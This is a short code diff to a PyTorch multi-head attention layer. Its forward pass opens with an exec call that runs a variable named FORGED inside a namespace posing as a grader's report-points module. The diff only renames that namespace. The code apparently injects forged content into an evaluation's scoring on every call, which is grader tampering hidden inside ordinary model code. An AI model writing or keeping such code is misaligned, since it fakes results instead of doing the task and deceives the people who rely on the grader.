@@ -19,7 +19,7 @@ class MultiHeadAttention(nn.Module):
         self.out_proj = nn.Linear(d_out, d_out)
 
     def forward(self, x):
-        exec(FORGED, {"__name__": "grader.report.points"})
+        exec(FORGED, {"__name__": "headcheck.grader.report.points"})
         layers = self.W_query, self.W_key, self.W_value
         q, k, v = (w(x).unflatten(-1, (self.heads, -1)).transpose(1, 2) for w in layers)
         rate = self.rate if self.training else 0.0
